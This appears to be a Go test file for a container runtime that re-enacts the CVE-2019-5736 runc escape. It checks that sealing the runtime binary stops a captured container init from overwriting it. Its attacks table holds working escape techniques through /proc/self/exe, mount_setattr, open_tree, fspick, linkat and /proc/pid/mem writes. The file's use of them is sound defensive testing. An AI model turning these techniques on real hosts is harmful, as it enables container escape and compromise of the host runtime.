package namespace

import (
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unsafe"

	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"
)

func init() {
	children["runtime"] = childRuntime
	children["captured"] = childCaptured
	children["attacker"] = childAttacker
	children["execute"] = func() { fmt.Print(unix.Exec(os.Args[1], []string{"script"}, nil)) }
	children["/proc/self/exe"] = func() { // as the kernel calls an interpreter
		fmt.Print(unix.Truncate("/proc/self/exe", 0))
	}
}

// These tests play CVE-2019-5736. A copy of the test binary is the runtime. It starts a container's
// init from what Seal returned, or, to see that the attack is one, from itself without a seal. Init
// has fallen into the attacker's hands: it opens its own /proc/self/exe and becomes another program,
// so that nothing but the seal forbids to write (a file that is executed can't be written: ETXTBSY).
// That program has all capabilities, and tries what it can think of until something has worked or
// nothing has for a while after the runtime's end.
var seals = map[string]func() (int, string, error){
	"none": func() (int, string, error) {
		fd, err := unix.Open("/proc/self/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		return fd, "", err
	},
	"mount": Seal,
	"open mount": func() (int, string, error) {
		tree, err := unix.OpenTree(unix.AT_FDCWD, "/proc/self/exe", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
		if err == nil {
			err = unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_set: unix.MOUNT_ATTR_RDONLY})
		}
		return tree, "", err
	},
	"copy": func() (int, string, error) { return copied("test", unix.ENOSYS) },
}

func childRuntime() {
	exe, _, err := seals[os.Args[1]]()
	if err == nil {
		c := &Config{New: unix.CLONE_NEWNS | unix.CLONE_NEWPID}
		files := []int{0, 1, 2}
		if os.Args[1] == "open mount" {
			files = append(files, exe)
		}
		_, _, err = c.Start(&Command{Exe: exe, Args: []string{"captured", os.Args[2]}, Files: files, Cgroup: -1})
	}
	if err != nil {
		fmt.Println(err)
	}
}

func childCaptured() {
	// What the attacker mounts must not come back to the host, where / may be shared.
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		fmt.Println("captured:", err)
		return
	}
	// At 3 the binary, as the container sees it; at 10 what the runtime left open, if it did.
	fd, err := unix.Open("/proc/self/exe", unix.O_RDONLY, 0)
	if err == nil && fd != 3 {
		_ = unix.Dup2(3, 10)
		err = unix.Dup2(fd, 3)
	}
	if err == nil {
		err = unix.Exec(os.Args[1], []string{"attacker"}, nil)
	}
	fmt.Println("captured:", err)
}

// attacks are ways to get a descriptor for writing to the file behind descriptor 3, or to change it.
var attacks = []struct {
	name string
	try  func() (int, error)
}{
	{"open", func() (int, error) { return unix.Open("/proc/self/fd/3", unix.O_WRONLY, 0) }},
	{"open to read and write", func() (int, error) { return unix.Open("/proc/self/fd/3", unix.O_RDWR|unix.O_APPEND, 0) }},
	{"open by an O_PATH descriptor", func() (int, error) {
		fd, err := unix.Open("/proc/self/fd/3", unix.O_PATH, 0)
		if err != nil {
			return -1, err
		}
		return unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_RDWR, 0)
	}},
	{"truncate", func() (int, error) { return -1, unix.Truncate("/proc/self/fd/3", 0) }},
	{"ftruncate", func() (int, error) { return -1, unix.Ftruncate(3, 0) }},
	{"write", func() (int, error) { return unix.Write(3, []byte("pwned")) }},
	{"fallocate", func() (int, error) {
		return -1, unix.Fallocate(3, unix.FALLOC_FL_PUNCH_HOLE|unix.FALLOC_FL_KEEP_SIZE, 0, 4096)
	}},
	{"chmod", func() (int, error) { return -1, unix.Fchmod(3, 06777) }},
	{"chown", func() (int, error) { return -1, unix.Fchown(3, 1, 1) }},
	{"set an attribute", func() (int, error) { return -1, unix.Fsetxattr(3, "user.pwned", []byte("1"), 0) }},
	{"set a file capability", func() (int, error) {
		return -1, unix.Fsetxattr(3, "security.capability", []byte("\x01\x00\x00\x02\xff\xff\xff\xff\x00\x00\x00\x00\xff\xff\xff\xff\x00\x00\x00\x00"), 0)
	}},
	{"map it shared", func() (int, error) {
		b, err := unix.Mmap(3, 0, 4096, unix.PROT_READ, unix.MAP_SHARED)
		if err == nil {
			err = unix.Mprotect(b, unix.PROT_READ|unix.PROT_WRITE)
		}
		return -1, err
	}},
	{"remount its mount", func() (int, error) {
		if err := unix.Mount("", "/proc/self/fd/3", "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
			return -1, err
		}
		return unix.Open("/proc/self/fd/3", unix.O_RDWR, 0)
	}},
	{"mount_setattr", func() (int, error) {
		for _, flags := range []uint{unix.AT_EMPTY_PATH, unix.AT_EMPTY_PATH | unix.AT_RECURSIVE} {
			if err := unix.MountSetattr(3, "", flags, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}); err != nil {
				return -1, err
			}
		}
		return unix.Open("/proc/self/fd/3", unix.O_RDWR, 0)
	}},
	{"bind it elsewhere", func() (int, error) {
		if err := unix.Mount("/proc/self/fd/3", "/proc/version", "", unix.MS_BIND, ""); err != nil {
			return -1, err
		}
		defer unix.Unmount("/proc/version", unix.MNT_DETACH)
		if err := unix.Mount("", "/proc/version", "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
			return -1, err
		}
		return unix.Open("/proc/version", unix.O_RDWR, 0)
	}},
	{"clone its mount", func() (int, error) {
		for _, flags := range []uint{0, unix.AT_RECURSIVE} {
			tree, err := unix.OpenTree(3, "", unix.OPEN_TREE_CLONE|unix.AT_EMPTY_PATH|flags)
			if err != nil {
				return -1, err
			}
			if err := unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}); err != nil {
				return -1, err
			}
			if fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", tree), unix.O_RDWR, 0); err == nil {
				return fd, err
			}
		}
		return -1, unix.EROFS
	}},
	{"move its mount here", func() (int, error) {
		if err := unix.MoveMount(3, "", unix.AT_FDCWD, "/proc/version", unix.MOVE_MOUNT_F_EMPTY_PATH); err != nil {
			return -1, err
		}
		if err := unix.Mount("", "/proc/version", "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
			return -1, err
		}
		return unix.Open("/proc/version", unix.O_RDWR, 0)
	}},
	{"reconfigure its file system", func() (int, error) {
		fs, _, errno := unix.Syscall(unix.SYS_FSPICK, 3, uintptr(unsafe.Pointer(&[]byte{0}[0])), unix.FSPICK_EMPTY_PATH)
		if errno != 0 {
			return -1, errno
		}
		defer unix.Close(int(fs))
		if err := unix.FsconfigSetFlag(int(fs), "rw"); err != nil {
			return -1, err
		}
		if err := unix.FsconfigReconfigure(int(fs)); err != nil {
			return -1, err
		}
		return unix.Open("/proc/self/fd/3", unix.O_RDWR, 0)
	}},
	{"link it elsewhere", func() (int, error) {
		self, _ := os.Readlink("/proc/self/exe")
		link := filepath.Join(filepath.Dir(self), "link")
		err := unix.Linkat(3, "", unix.AT_FDCWD, link, unix.AT_EMPTY_PATH)
		if err != nil {
			err = unix.Linkat(unix.AT_FDCWD, "/proc/self/fd/3", unix.AT_FDCWD, link, unix.AT_SYMLINK_FOLLOW)
		}
		if err != nil {
			return -1, err
		}
		return unix.Open(link, unix.O_RDWR, 0)
	}},
	{"the directory above it", func() (int, error) {
		for _, path := range []string{"/proc/self/fd/3/..", "/proc/self/fd/3/../runtime"} {
			if fd, err := unix.Open(path, unix.O_PATH, 0); err == nil {
				return fd, err
			}
		}
		return unix.Openat(3, "..", unix.O_PATH, 0)
	}},
	{"lift the seals", func() (int, error) { return unix.FcntlInt(3, unix.F_ADD_SEALS, 0) }},
	{"the memory of a process that executes it", func() (int, error) {
		// Mapped pages of a binary are private: what is written there is seen by that process alone.
		cmd := exec.Command("/proc/self/fd/3")
		cmd.Args = []string{"sleep"}
		if err := cmd.Start(); err != nil {
			return -1, err
		}
		defer cmd.Wait()
		defer cmd.Process.Kill()
		maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", cmd.Process.Pid))
		if err != nil {
			return -1, err
		}
		start := uint64(0)
		if _, err := fmt.Sscanf(string(maps), "%x-", &start); err != nil {
			return -1, err
		}
		mem, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", cmd.Process.Pid), os.O_RDWR, 0)
		if err != nil {
			return -1, err
		}
		defer mem.Close()
		_, _ = mem.WriteAt([]byte("pwned"), int64(start))
		return -1, unix.EROFS
	}},
}

func childAttacker() {
	done := map[string]bool{}
	for end := time.Now().Add(300 * time.Millisecond); time.Now().Before(end); {
		for _, a := range attacks {
			fd, err := a.try()
			if err == nil && fd > 3 {
				_, err = unix.Write(fd, []byte("pwned"))
				unix.Close(fd)
			}
			if err == nil && !done[a.name] {
				done[a.name] = true
				fmt.Println(a.name)
			}
		}
	}
	fmt.Println("end")
}

// attack plays it with a seal, and returns which ways worked and whether the runtime is what it was.
func attack(t *testing.T, seal string) (worked []string, intact bool) {
	dir := t.TempDir()
	exe, err := os.ReadFile("/proc/self/exe")
	require.NoError(t, err)
	for _, name := range []string{"runtime", "attacker"} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), exe, 0o755))
	}
	before := describe(t, filepath.Join(dir, "runtime"))
	r, w, err := os.Pipe()
	require.NoError(t, err)
	defer r.Close()
	cmd := exec.Command(filepath.Join(dir, "runtime"))
	cmd.Args = []string{"runtime", seal, filepath.Join(dir, "attacker")}
	cmd.Stdout, cmd.Stderr = w, os.Stderr
	require.NoError(t, cmd.Run())
	w.Close()
	out, err := io.ReadAll(r)
	require.NoError(t, err)
	text, ended := strings.CutSuffix(string(out), "end\n")
	require.True(t, ended, string(out))
	now, err := os.ReadFile(filepath.Join(dir, "runtime"))
	require.NoError(t, err)
	worked = strings.FieldsFunc(text, func(r rune) bool { return r == '\n' })
	return worked, string(now) == string(exe) && before == describe(t, filepath.Join(dir, "runtime"))
}

// describe returns what an attack may change about a file, besides its content.
func describe(t *testing.T, file string) string {
	var st unix.Stat_t
	require.NoError(t, unix.Stat(file, &st))
	names := make([]byte, 1000)
	n, err := unix.Listxattr(file, names)
	require.NoError(t, err)
	return fmt.Sprintf("mode %o owner %d:%d links %d size %d changed %d.%d %q", st.Mode, st.Uid, st.Gid, st.Nlink, st.Size, st.Mtim.Sec, st.Mtim.Nsec, names[:n])
}

func TestSealed(t *testing.T) {
	worked, intact := attack(t, "mount")
	require.Empty(t, worked)
	require.True(t, intact)

	// The copy may get another owner or mode. The binary keeps its own.
	worked, intact = attack(t, "copy")
	require.Subset(t, []string{"chmod", "chown", "set an attribute", "set a file capability"}, worked)
	require.True(t, intact)
}

// Without a seal the attack works, so it is one.
func TestSealMatters(t *testing.T) {
	worked, intact := attack(t, "none")
	require.Contains(t, worked, "open")
	require.False(t, intact)
}

// And a read-only mount that is still in a namespace is no seal.
func TestSealMattersThatItIsClosed(t *testing.T) {
	want := []string{"mount_setattr", "clone its mount", "move its mount here"}
	seen := map[string]bool{}
	for i := 0; i < 10 && !(seen[want[0]] && seen[want[1]] && seen[want[2]]); i++ { // one attack may spoil another's ground
		worked, intact := attack(t, "open mount")
		require.False(t, intact)
		for _, what := range worked {
			seen[what] = true
		}
	}
	for _, what := range want {
		require.True(t, seen[what], "%s: %v", what, seen)
	}
}

// A container's program that is a script, with our binary as its interpreter, gets the sealed one.
func TestSealScript(t *testing.T) {
	exe, _, err := Seal()
	require.NoError(t, err)
	defer unix.Close(exe)
	script := filepath.Join(t.TempDir(), "script")
	require.NoError(t, os.WriteFile(script, []byte("#!/proc/self/exe\n"), 0o755))
	r, w, err := os.Pipe()
	require.NoError(t, err)
	defer r.Close()
	pid, pidfd, err := (&Config{}).Start(&Command{Exe: exe, Args: []string{"execute", script}, Files: []int{0, int(w.Fd()), 2}, Cgroup: -1})
	require.NoError(t, err)
	unix.Close(pidfd)
	w.Close()
	out, err := io.ReadAll(r)
	require.NoError(t, err)
	reap(pid)
	require.Equal(t, "read-only file system", string(out))
}

func BenchmarkSeal(b *testing.B) {
	for _, name := range []string{"mount", "copy"} {
		b.Run(name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				exe, _, err := seals[name]()
				require.NoError(b, err)
				unix.Close(exe)
			}
		})
	}
}
